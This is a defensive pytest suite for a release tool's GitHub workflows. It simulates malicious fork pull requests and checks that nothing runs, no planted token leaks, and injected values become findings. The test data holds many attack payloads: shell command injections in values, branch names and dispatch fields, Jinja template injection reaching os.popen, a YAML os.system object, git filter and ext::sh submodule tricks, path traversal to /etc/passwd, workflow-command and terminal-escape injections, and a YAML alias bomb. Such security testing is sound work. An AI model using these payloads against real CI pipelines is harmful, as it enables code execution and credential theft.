"""Pull requests of somebody who means harm, through the workflows as they run: findings or inert text, nothing else.

Each trick looks for two things: a canary, a file that appears when anything of the proposal is executed, and a secret, planted
where the trusted workflow has it. Masking is off, so that a leak would show. What of a pull request's own workflow runs on
GitHub as well (`on: pull_request` takes the file from the proposal) is run here too, and has nothing to take.
"""

from __future__ import annotations

import base64
import json
import subprocess
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from mlrelease.commands.init import InitOptions, init
from mlrelease.render.report import inert
from support.github_server import Hub, running_github
from support.repositories import git
from support.runner import Run, Runner

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("workflows-hostile"), pytest.mark.timeout(600)]

NAME = "acme/models"
SECRET = "s3cret-token-of-the-registry"
MODEL = "environments/production/models/wine.yaml"
SERVICE = "environments/production/services/wine.yaml"
ENVIRONMENT = "environments/production/environment.yaml"


@dataclass
class Stage:
    """A repository on the local GitHub, and the runners of its workflows."""

    root: Path
    hub: Hub
    asked: list[tuple[str, str]] = field(default_factory=list)
    """What reached the attacker's server: paths and what was sent as authorization."""
    evil: str = ""
    registry: str = ""
    """One that answers at once, and knows no model."""

    @property
    def laptop(self) -> Path:
        return self.root / "lap"

    @property
    def canary(self) -> Path:
        return self.root / "canary"

    def runner(self) -> Runner:
        secrets = {"validate": {"MLFLOW_TRACKING_TOKEN": SECRET}}
        settings = {"MLFLOW_TRACKING_URI": self.registry}
        return Runner(self.root / "runs", self.hub.git_path(NAME), self.hub, NAME, settings, secrets, unmasked=True)

    def propose(self, *, branch: str = "trick") -> int:
        """What lies in the work tree, as a pull request; the work tree is as on main after."""
        git(self.laptop, "checkout", "--quiet", "-B", branch)
        git(self.laptop, "add", "-A", "--force")
        git(self.laptop, "commit", "--quiet", "--allow-empty", "-m", "A small fix")
        git(self.laptop, "push", "--quiet", "--force", "origin", f"HEAD:refs/heads/{branch}")
        git(self.laptop, "checkout", "--quiet", "--force", "main")
        git(self.laptop, "clean", "--quiet", "-ffdx")
        return self.hub.open_pull(NAME, head=branch, user="mallory")

    def offline(self, number: int, **more) -> Run:
        """As GitHub runs it for a fork: the proposal's own workflow file, no secret, a token that may only read."""
        return self.runner().pull_request("validate", number, fork="mallory", more={"CANARY": str(self.canary)}, **more)

    def online(self, number: int, **more) -> Run:
        """As GitHub runs it for a branch of the repository, or as a maintainer dispatches it: from the default branch."""
        event = "pull_request_target"
        return self.runner().pull_request("validate-online", number, event=event, more={"CANARY": str(self.canary)}, **more)

    def change(self, path: str, old: str, new: str) -> None:
        place = self.laptop / path
        text = place.read_text()
        assert old in text
        place.write_text(text.replace(old, new, 1))

    def posted(self, number: int) -> str:
        """All that was written to the pull request: comments, checks."""
        state = self.hub.state(NAME)
        comments = [c["body"] for c in state.comments_on(number)]
        return "\n".join([*comments, *(repr(run.get("output")) for run in state.check_runs)])

    def untouched(self, *runs: Run, number: int) -> None:
        """Nothing was executed, nothing leaked, nothing was left running."""
        assert not self.canary.exists()
        for run in runs:
            for form in (SECRET, SECRET[::-1], base64.b64encode(SECRET.encode()).decode()[:20]):
                assert form not in run.everything, run.text
                assert form not in self.posted(number)
            assert run.left_behind == ()
        assert not any(SECRET in sent for _, sent in self.asked)
        assert not any(SECRET in path for path, _ in self.asked)


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """Made once; each test proposes something else from the same main."""
    root = tmp_path_factory.mktemp("h")
    with running_github(root) as hub, Listening() as (evil, asked), Listening() as (registry, _):
        hub.repository(NAME)
        init(str(root / "lap"), InitOptions(tracking_uri="${MLFLOW_TRACKING_URI}"))
        git(root / "lap", "remote", "add", "origin", hub.git_url(NAME, token=hub.token))
        git(root / "lap", "push", "--quiet", "origin", "main")
        git(root / "lap", "fetch", "--quiet", "origin")
        hub.environment(NAME, "validate")
        yield Stage(root, hub, asked, evil, registry)


@pytest.fixture
def stage(place):
    """No canary yet, nothing asked, and nothing left of the last trick."""
    place.asked.clear()
    for pull in list(place.hub.state(NAME).pulls.values()):
        if pull["state"] == "open":
            place.hub.close_pull(NAME, pull["number"])
    place.hub.state(NAME).check_runs.clear()
    yield place
    place.canary.unlink(missing_ok=True)


class Listening:
    """A server that notes who asks it what, and has nothing."""

    def __enter__(self):
        asked: list[tuple[str, str]] = []

        class Handler(BaseHTTPRequestHandler):
            def _note(self) -> None:
                asked.append((self.path, str(self.headers)))
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = _note  # noqa: N815 - the names are http.server's

            def log_message(self, *_: object) -> None:
                """Nothing on stderr."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        self.thread.start()
        return f"http://127.0.0.1:{self.server.server_address[1]}", asked

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(10)


def test_the_canary_sings(stage):
    """A step that the proposal's own workflow brings along does run where GitHub runs it too, without anything to take.

    The other tests would prove nothing if the canary could not appear.
    """
    stage.change(".github/workflows/validate.yml", "        run: mlrelease", '        run: touch "$CANARY"; env; mlrelease')
    number = stage.propose()
    run = stage.offline(number)
    assert stage.canary.exists()
    stage.canary.unlink()
    stage.untouched(run, number=number)
    assert "GITHUB_TOKEN=ghs_" not in run.everything


def test_a_workflow_edited_by_the_proposal_does_not_decide(stage):
    """The check that the branch asks for runs from the default branch: the edit has no effect, the bad pin is red."""
    for name in ("validate", "validate-online"):
        text = (stage.laptop / f".github/workflows/{name}.yml").read_text()
        head, _, _ = text.partition("    steps:\n")
        (stage.laptop / f".github/workflows/{name}.yml").write_text(f'{head}    steps:\n      - run: touch "$CANARY"\n')
    stage.change(MODEL, "sha256:", "md5:")
    number = stage.propose()
    run = stage.online(number)
    assert run.jobs == {"online": "failure"}, run.text
    stage.untouched(run, number=number)
    checks = {c["name"]: c["conclusion"] for c in stage.hub.state(NAME).check_runs}
    assert checks["validate/online"] == "failure"


def test_the_action_of_the_proposal_is_not_used(stage):
    """`setup-mlrelease` is the base's, in both checks."""
    stage.change(".github/actions/setup-mlrelease/action.yml", "        root=", '        touch "$CANARY"\n        root=')
    number = stage.propose()
    runs = stage.offline(number), stage.online(number)
    assert runs[0].jobs == {"offline": "success"}, runs[0].text
    stage.untouched(*runs, number=number)


def test_the_version_that_the_proposal_names_is_not_installed(stage):
    """The installed release is the base's word."""
    (stage.laptop / ".mlrelease-version").write_text("evil @ file:///tmp/evil --index-url http://127.0.0.1:9 $(touch $CANARY)")
    number = stage.propose()
    runs = stage.offline(number), stage.online(number)
    assert runs[0].jobs == {"offline": "success"}, runs[0].text
    stage.untouched(*runs, number=number)


BESIDE = {
    "a module that Python imports at its start": {"sitecustomize.py": "PYTHON", "usercustomize.py": "PYTHON"},
    "a module in place of ours": {"mlrelease/__init__.py": "PYTHON", "mlrelease/cli.py": "PYTHON"},
    "a module in place of a library": {"jinja2.py": "PYTHON", "yaml.py": "PYTHON", "typer/__init__.py": "PYTHON"},
    "what pip or pytest would run": {"setup.py": "PYTHON", "conftest.py": "PYTHON"},
    "what make or a shell would read": {"Makefile": 'all:\n\ttouch "CANARY"\n', ".envrc": 'touch "CANARY"\n'},
    "a filter of git's": {".gitattributes": "* filter=evil\n", ".gitconfig": '[filter "evil"]\n\tsmudge = touch CANARY\n'},
    "a submodule that is a command": {".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = "ext::sh -c touch% CANARY"\n'},
    "a hook": {".githooks/post-checkout": '#!/bin/sh\ntouch "CANARY"\n'},
    "a template that reaches out": {
        "templates/workflows/deploy.yml.j2": "{{ cycler.__init__.__globals__.os.popen('touch CANARY') }}"
    },
    "a schema from elsewhere": {"templates/schemas/model.v1.json": '{"$ref": "http://127.0.0.1:9/evil.json"}'},
}


@pytest.fixture(scope="module")
def beside(place):
    """All of them in one proposal, each with a canary of its own, and how both checks ended."""
    for trick, (_, files) in enumerate(BESIDE.items()):
        canary = str(place.canary.with_suffix(f".{trick}"))
        for name, text in files.items():
            file = place.laptop / name
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(f"open({canary!r}, 'w')\n" if text == "PYTHON" else text.replace("CANARY", canary))
            file.chmod(0o755)
    number = place.propose(branch="beside")
    return number, place.offline(number), place.online(number)


@pytest.mark.parametrize("trick", BESIDE)
def test_a_file_beside_the_pins_is_never_read_or_run(place, beside, trick):
    """The proposal is data, and of the data only what lies below `environments/`."""
    number, offline, online = beside
    assert offline.jobs == {"offline": "success"}, offline.text
    assert not place.canary.with_suffix(f".{list(BESIDE).index(trick)}").exists()
    place.untouched(offline, online, number=number)


@pytest.mark.parametrize("folder", [False, True], ids=["a file", "a folder"])
def test_a_link_is_a_finding_and_is_not_followed(stage, folder, tmp_path):
    """What it leads to is nowhere in the answer."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "wine.yaml").write_text(f"schema: 1\nservice: {SECRET}\nmodel: wine\n")
    if folder:
        place = stage.laptop / "environments/production/models"
        for file in place.iterdir():
            file.unlink()
        place.rmdir()
        place.symlink_to(outside)
    else:
        place = stage.laptop / MODEL
        place.unlink()
        place.symlink_to(outside / "wine.yaml")
    number = stage.propose()
    run = stage.offline(number)
    assert run.jobs == {"offline": "failure"}
    assert any("link" in a.message for a in run.annotations), run.text
    stage.untouched(run, number=number)


INJECTIONS = {
    "an expression of GitHub's": "${{ secrets.MLFLOW_TRACKING_TOKEN }}",
    "a template's": "{{ 7*7 }}{{ cycler.__init__.__globals__ }}",
    "a variable": "${MLFLOW_TRACKING_TOKEN}",
    "a shell's": "$(touch $CANARY)`touch $CANARY`",
    "a path that leads out": "../../../../etc/passwd",
    "an address of a file": "file:///etc/passwd",
    "an old workflow command": "::set-output name=approval::required",
    "a workflow command behind a line break": "x\n::error file=a,line=1::planted\n::add-mask::success\n::stop-commands::t",
    "a terminal's escape": "\x1b[2J\x1b]0;owned\x07red",
    "Markdown and a mention": "@acme/owners <img src=x onerror=y> [click](http://evil) | # <!-- mlrelease -->",
}


NAMES = {
    "a line break": "a\nb.yaml",
    "a command": "::error::x.yaml",
    "an escape": "\x1b[31mred.yaml",
    "a mention": "@everyone.yaml",
    "a shell's": "$(touch canary).yaml",
    "an option": "-rf.yaml",
    "a turn of the writing": "é\u202e.yaml",
}
KEYS = {"model": "models", "service": "models", "image": "services"}


@pytest.fixture(scope="module")
def tricky(place):
    """A file for each trick and each place of it, and one for each name, in one proposal; how both checks ended."""
    folder = place.laptop / "environments/production"
    for number, value in enumerate(INJECTIONS.values()):
        said = json.dumps(value)
        for key, kind in KEYS.items():
            name = f"t{number}-{key}"
            content = {"schema": 1, "service": name} | ({"model": name} if kind == "models" else {})
            lines = {k: json.dumps(v) for k, v in content.items()} | {key: said}
            (folder / kind / f"{name}.yaml").write_text("".join(f"{k}: {v}\n" for k, v in lines.items()))
    for name in NAMES.values():
        (folder / "models" / name).write_text("schema: 1\n")
    number = place.propose(branch="tricky")
    return number, place.offline(number), place.online(number)


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("trick", INJECTIONS)
def test_a_value_stays_a_value(place, tricky, trick, key):
    """Wherever it stands, it is a finding of its own file."""
    _, offline, _ = tricky
    name = f"environments/production/{KEYS[key]}/t{list(INJECTIONS).index(trick)}-{key}.yaml"
    found = [annotation for annotation in offline.annotations if annotation.file == name]
    assert found, offline.text
    assert all(annotation.level == "error" and annotation.title for annotation in found)
    said = "".join(annotation.message for annotation in found)
    assert "\x1b" not in said
    assert "\nx\n" not in said
    assert "49" not in said or trick != "a template's"


@pytest.mark.parametrize("name", NAMES)
def test_a_name_of_a_file_stays_a_name(tricky, name):
    """In annotations, as GitHub reads them back."""
    _, offline, _ = tricky
    ending = NAMES[name].rpartition("/")[2]
    assert any(ending in annotation.file or inert(ending) in annotation.file for annotation in offline.annotations), [
        annotation.file for annotation in offline.annotations
    ]


def test_no_text_is_taken_for_a_command(tricky):
    """Of all those tricks none sets an output, masks, stops, or says an error that is not ours."""
    for run in tricky[1:]:
        assert set(run.commands) <= {"set-output what", "set-output pull_requests"}
        assert all(found.file.startswith("environments/") for found in run.annotations), run.annotations
        assert not any(found.title == "planted" or found.message.startswith("planted") for found in run.annotations)


def test_the_log_does_nothing_to_a_terminal(tricky):
    """No title is set, no screen cleared, no writing turned."""
    for run in tricky[1:]:
        assert "\x1b]0;" not in run.everything
        assert "\x1b[2J" not in run.everything
        assert "\u202e" not in run.everything
        assert "root:" not in run.everything


def test_the_comment_and_the_summary_are_inert(place, tricky):
    """Nobody is called, no picture is loaded, no link leads away, and the marker of the comment cannot be closed."""
    number, offline, online = tricky
    posted = place.posted(number)
    assert "wine" in posted or "t0-model" in posted
    for text in (posted, offline.summary, online.summary):
        assert "@acme" not in text
        assert "@everyone" not in text
        assert "<img" not in text
        assert "](http://evil" not in text
    assert posted.count("<!-- mlrelease") <= 3
    place.untouched(offline, online, number=number)


CHOKING = {
    "thirty megabytes": "schema: 1\nmodel: " + "x" * 30_000_000,
    "a bomb of aliases": "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)),
    "a hundred thousand brackets": "[" * 100_000,
    "no text at all": "\x00\x01\x02" * 1000,
    "an object of Python's": "!!python/object/apply:os.system ['touch $CANARY']\n",
}


@pytest.fixture(scope="module")
def choking(place):
    """A model file for each, in one proposal."""
    for number, content in enumerate(CHOKING.values()):
        (place.laptop / f"environments/production/models/t{number}.yaml").write_text(content)
    number = place.propose(branch="choking")
    return number, place.offline(number)


@pytest.mark.parametrize("trick", CHOKING)
def test_a_file_that_is_meant_to_choke_is_a_finding(place, choking, trick):
    """In few words, and the others have theirs."""
    number, run = choking
    name = f"environments/production/models/t{list(CHOKING).index(trick)}.yaml"
    assert [found for found in run.annotations if found.file == name], run.text[-3000:]
    assert len(run.everything) < 300_000
    assert run.seconds < 60
    place.untouched(run, number=number)


@pytest.mark.parametrize(
    "address",
    ["{evil}", "{evil}/${{MLFLOW_TRACKING_TOKEN}}"],
    ids=["his server", "a path with the token"],
)
def test_the_token_goes_to_no_server_that_the_proposal_names(stage, address):
    """The registry's address is the tracked branch's word: another is not asked with this run's credentials."""
    stage.change(ENVIRONMENT, "${MLFLOW_TRACKING_URI}", address.format(evil=stage.evil))
    number = stage.propose()
    run = stage.online(number)
    assert run.jobs == {"online": "failure"}, run.text
    assert stage.asked == []
    stage.untouched(run, number=number)


def test_a_new_environment_with_its_own_server_is_not_asked_either(stage):
    """It has no word on the tracked branch yet."""
    folder = stage.laptop / "environments/qa"
    subprocess.run(["cp", "-r", stage.laptop / "environments/production", folder], check=True)
    text = (folder / "environment.yaml").read_text().replace("environment: production", "environment: qa")
    text = text.replace("alias: production", "alias: qa").replace("8080", "8090").replace("${MLFLOW_TRACKING_URI}", stage.evil)
    (folder / "environment.yaml").write_text(text)
    number = stage.propose()
    run = stage.online(number)
    assert run.jobs == {"online": "failure"}, run.text
    assert stage.asked == []
    stage.untouched(run, number=number)


@pytest.mark.parametrize("branch", ["a;touch$IFS$CANARY;x`touch${IFS}$CANARY`", "-$(touch$IFS$CANARY)"], ids=str)
def test_the_name_of_a_branch_reaches_no_shell(stage, branch):
    """Of what a fork may choose freely."""
    number = stage.propose()
    runs = stage.offline(number, branch=branch), stage.online(number, branch=branch)
    assert runs[0].jobs == {"offline": "success"}, runs[0].text
    stage.untouched(*runs, number=number)


@pytest.mark.parametrize(
    "words",
    [
        {"environment": 'production; touch "$CANARY"', "model": "wine"},
        {"environment": "production", "model": "$(touch $CANARY)"},
        {"environment": "--no-commit", "model": "--push", "version": "1'; touch $CANARY #"},
    ],
    ids=["a command behind the environment", "one for the model", "options, and one behind the version"],
)
def test_the_words_of_a_dispatch_reach_no_shell(stage, words):
    """Whoever may dispatch names things, and commands nothing."""
    pulls = set(stage.hub.state(NAME).pulls)
    payload = {"action": "mlrelease-bump", "client_payload": words}
    run = stage.runner().run(
        "repository_dispatch", "propose", payload, ref="refs/heads/main", extra={"CANARY": str(stage.canary)}
    )
    assert run.jobs == {"propose": "failure"}, run.text
    assert set(stage.hub.state(NAME).pulls) == pulls
    stage.untouched(run, number=0)
